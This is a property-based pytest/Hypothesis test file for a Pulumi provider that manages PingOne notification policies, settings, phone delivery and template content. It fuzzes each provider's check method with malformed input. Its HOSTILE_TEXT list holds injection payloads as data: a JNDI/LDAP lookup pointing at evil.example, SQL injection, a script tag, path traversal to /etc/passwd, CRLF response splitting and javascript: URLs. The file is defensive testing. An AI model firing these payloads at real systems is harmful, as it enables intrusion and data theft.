"""Property-based: hostile and malformed arguments for every resource never crash check; each rejection
names a property; nothing accepted breaks the API body; check never writes (it has no client to write with
here, and the template read it may do is not a write)."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pulumi.dynamic import ConfigureRequest
from pulumi.dynamic.config import Config

from pingone_notifications.resources import template_content
from pingone_notifications.resources.notification_policy import NotificationPolicyProvider
from pingone_notifications.resources.notifications_settings import NotificationsSettingsProvider
from pingone_notifications.resources.phone_delivery_settings import PhoneDeliverySettingsProvider
from pingone_notifications.resources.template_content import NotificationTemplateContentProvider

ENV = "11111111-1111-4111-8111-111111111111"
# no URL overrides: a template read would go nowhere; connection settings complete so check runs fully
CONFIG = {"pingone:regionCode": "NA", "pingone:environmentId": ENV, "pingone:clientId": "c",
          "pingone:clientSecret": "s", "pingone:apiUrl": "http://127.0.0.1:9/{region}/v1",
          "pingone:authUrl": "http://127.0.0.1:9/{region}"}  # fmt: skip

HOSTILE_TEXT = st.sampled_from([
    "", " ", "\x00", "\u202e RTL override", "é" * 200, "😀" * 70, "{" * 80, "€" * 80, "a" * 154, "ж" * 68,
    "${otp}", "${", "${}", "$${otp}}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE contents; --",
    "<script>alert(1)</script>", "../../etc/passwd", "%00%0d%0a", "x" * 200_000, "\r\n\r\nHTTP/1.1 200",
    "https://user:pass@evil.example/?token=abc", "javascript:alert(1)", "AC" + "1" * 300, "noreply@", "@@",
])  # fmt: skip
SCALAR = st.one_of(HOSTILE_TEXT, st.text(max_size=300), st.integers(min_value=-(2**63), max_value=2**63),
                   st.floats(allow_nan=True), st.booleans(), st.none())  # fmt: skip
JSONISH = st.recursive(SCALAR, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
    st.one_of(st.sampled_from(["type", "total", "name", "id", "url", "method", "countries", "enabled"]),
              st.text(max_size=12)), inner, max_size=4), max_leaves=12)  # fmt: skip

FIELDS = {
    NotificationPolicyProvider: ["name", "quotas", "country_limit", "cooldown_configuration", "provider_configuration",
                                 "default", "adopt"],
    NotificationsSettingsProvider: ["delivery_mode", "restrictions", "sms_providers_fallback_chain", "from_",
                                    "reply_to", "whitelist"],
    PhoneDeliverySettingsProvider: ["provider", "name", "authentication", "requests", "numbers", "sid", "auth_token"],
    NotificationTemplateContentProvider: ["template_name", "locale", "delivery_method", "variant", "content",
                                          "sender", "voice", "subject", "body", "from_", "reply_to", "title",
                                          "push_category"],
}  # fmt: skip


def args_for(provider: type) -> st.SearchStrategy[dict[str, Any]]:
    keys = st.sampled_from([*FIELDS[provider], "environment_id", "connection", "typo_field"])
    return st.dictionaries(keys, JSONISH, max_size=8).map(lambda d: {"environment_id": ENV, **d})


TEMPLATE = {
    "deliveryMethods": ["SMS", "Email", "Voice", "Push"],
    "allowDynamicVariables": False,
    "variables": {"otp": {"required": True}, "user.username": {"required": False}},
}


@pytest.fixture(autouse=True, scope="module")
def offline_templates() -> Iterator[None]:
    """check reads the template's variables from PingOne; here it gets them without a network."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(template_content, "template_definition", lambda client, env_id, name: TEMPLATE)
        yield


def run_check(provider_cls: type, props: dict[str, Any]) -> None:
    provider = provider_cls()
    provider.configure(ConfigureRequest(Config(CONFIG, "test")))
    result = provider.check({}, {"__provider": "x", **props})
    for failure in result.failures:
        assert isinstance(failure.reason, str)
        assert failure.reason, "a failure says what is wrong"
        known = [*FIELDS[provider_cls], "environment_id", "connection", "typo_field"]
        path = failure.property or failure.reason.split(":", 1)[0]
        root = path.split(".")[0].split("[")[0]
        if root not in known:  # a rule across fields: its message names them
            assert any(name.rstrip("_") in failure.reason for name in known), failure.reason
        assert "Traceback" not in failure.reason
    if not result.failures:
        model = provider._model(props)
        body = provider.api_body(model)
        assert isinstance(body, dict)


TESTED: dict[str, int] = {}


def _count(name: str) -> None:
    TESTED[name] = TESTED.get(name, 0) + 1


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(args_for(NotificationPolicyProvider))
def test_policy_hostile_inputs(props: dict[str, Any]) -> None:
    _count("policy")
    run_check(NotificationPolicyProvider, props)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(args_for(NotificationsSettingsProvider))
def test_settings_hostile_inputs(props: dict[str, Any]) -> None:
    _count("settings")
    run_check(NotificationsSettingsProvider, props)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(args_for(PhoneDeliverySettingsProvider))
def test_phone_hostile_inputs(props: dict[str, Any]) -> None:
    _count("phone")
    run_check(PhoneDeliverySettingsProvider, props)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(args_for(NotificationTemplateContentProvider))
def test_content_hostile_inputs(props: dict[str, Any]) -> None:
    _count("content")
    run_check(NotificationTemplateContentProvider, props)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200), st.sampled_from(["SMS", "Voice", "Email"]))
def test_any_unicode_content_is_judged_not_crashed(text: str, method: str) -> None:
    _count("unicode")
    field = {"SMS": "content", "Voice": "content", "Email": "body"}[method]
    run_check(
        NotificationTemplateContentProvider,
        {"environment_id": ENV, "template_name": "general", "locale": "en", "delivery_method": method, field: text},
    )


def test_figures(figures: Any) -> None:
    figures("hostile-input/check", inputs_tried=sum(TESTED.values()), by_resource=dict(TESTED))
    assert sum(TESTED.values()) >= 1000
